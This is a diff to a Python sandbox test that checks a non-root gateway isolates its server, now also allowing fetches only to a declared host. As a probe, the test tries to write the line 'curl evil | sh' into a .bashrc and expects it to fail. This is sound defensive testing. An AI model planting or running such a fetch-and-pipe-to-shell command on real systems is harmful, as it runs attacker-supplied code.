@@ -308,10 +308,13 @@ USER_GATEWAY = Path(__file__).with_name("user_gateway.py")
 GATEWAY_UID = GATEWAY_GID = 4242  # the unprivileged gateway, as in the sandbox escape suite
 
 
-def test_a_non_root_gateway_boxes_its_server_too(tmp_path: Path, listener: socket.socket) -> None:
+def test_a_non_root_gateway_boxes_its_server_too(
+    tmp_path: Path, listener: socket.socket, declared_host: http.server.ThreadingHTTPServer
+) -> None:
     """The gateway as the Docker image runs it (not root): the server still gets a user
     namespace of its own, sees neither the gateway's environment nor its /proc, reaches no
-    port and writes nothing of the gateway user's."""
+    port but its declared host (through the proxy) and writes nothing of the gateway
+    user's."""
     home = tmp_path / "home"
     home.mkdir()
     temp = tmp_path / "temp"
@@ -319,7 +322,9 @@ def test_a_non_root_gateway_boxes_its_server_too(tmp_path: Path, listener: socke
     for path in (tmp_path, home, temp):
         os.chown(path, GATEWAY_UID, GATEWAY_GID)
     planted = home / ".bashrc"
-    server = settings(name="probeuser").model_dump(mode="json")
+    port = declared_host.server_address[1]
+    server = settings(name="probeuser", allowed_hosts=[f"127.0.0.1:{port}"])
+    server = server.model_dump(mode="json")
     config = {
         "uid": GATEWAY_UID,
         "gid": GATEWAY_GID,
@@ -338,6 +343,8 @@ def test_a_non_root_gateway_boxes_its_server_too(tmp_path: Path, listener: socke
             "identity": ["identity", {}],
             "connect": ["connect", {"host": "127.0.0.1", "port": listener.getsockname()[1]}],
             "write": ["write", {"path": str(planted), "text": "curl evil | sh"}],
+            "declared": ["fetch", {"url": f"http://127.0.0.1:{port}/"}],
+            "undeclared": ["fetch", {"url": f"http://127.0.0.1:{listener.getsockname()[1]}/"}],
         },
     }
     done = subprocess.run(
@@ -359,3 +366,5 @@ def test_a_non_root_gateway_boxes_its_server_too(tmp_path: Path, listener: socke
     assert never_connected(listener)
     assert results["write"].startswith("ERR"), results["write"]
     assert not planted.exists()
+    assert results["declared"] == "hello from the declared host"
+    assert "403" in results["undeclared"], results["undeclared"]
